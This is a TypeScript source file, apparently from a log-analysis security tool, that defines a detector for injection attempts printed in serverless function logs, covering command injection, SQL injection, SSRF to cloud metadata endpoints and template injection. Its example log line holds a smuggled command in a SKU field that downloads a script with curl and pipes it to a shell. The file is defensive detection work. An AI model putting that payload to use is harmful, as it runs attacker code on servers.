import { z } from 'zod';
import { ATTACK } from '../attack.ts';
import type { AnalyzerDescriptor } from '../types.ts';

const row = z.object({
  function: z.string(),
  time: z.string(),
  request_id: z.string().nullable(),
  pattern: z.enum(['command-injection', 'path-traversal', 'sql-injection', 'script-injection', 'ssrf-metadata', 'template-injection']),
  excerpt: z.string(),
});

export const injectionHints: AnalyzerDescriptor<typeof row> = {
  id: 'injection-hints',
  title: 'Injection attempts in what a function printed',
  severity: 'medium',
  description:
    "Application log lines of a function (not START/END/REPORT/platform lines) whose printed input looks like command injection, path traversal, SQL injection, script injection, SSRF to the instance/container metadata endpoints (169.254.169.254, 169.254.170.2), or template / expression injection (`{{7*7}}`, `${jndi:...}`). Only what the code printed can be seen: an input that was not logged is invisible. The excerpt is raw attacker-controlled text, shown escaped.",
  falsePositives: [
    'Security scanners and pentests hitting a public endpoint (the attempt is real, the compromise may not be).',
    'Functions that legitimately handle SQL, shell snippets or templates as data (code editors, CI tools).',
    'Log lines that print the same bad input several times count once per line.',
  ],
  example: "orders-api  2026-03-11T08:04Z  req 7f3c...  command-injection  {\"sku\":\"1; curl http://203.0.113.50/x.sh | sh\"}",
  sqlFile: 'injection-hints.sql',
  row,
  attack: [ATTACK.exploitPublicFacingApplication, ATTACK.commandAndScriptingInterpreter, ATTACK.cloudInstanceMetadataApi],
  finding: (r, _ctx, x) =>
    x._in_incident
      ? {
          function: r.function,
          time: r.time,
          title: `${r.function} logged input that looks like ${r.pattern.replace('-', ' ')}`,
          severity: r.pattern === 'ssrf-metadata' || r.pattern === 'command-injection' ? 'high' : 'medium',
        }
      : undefined,
};
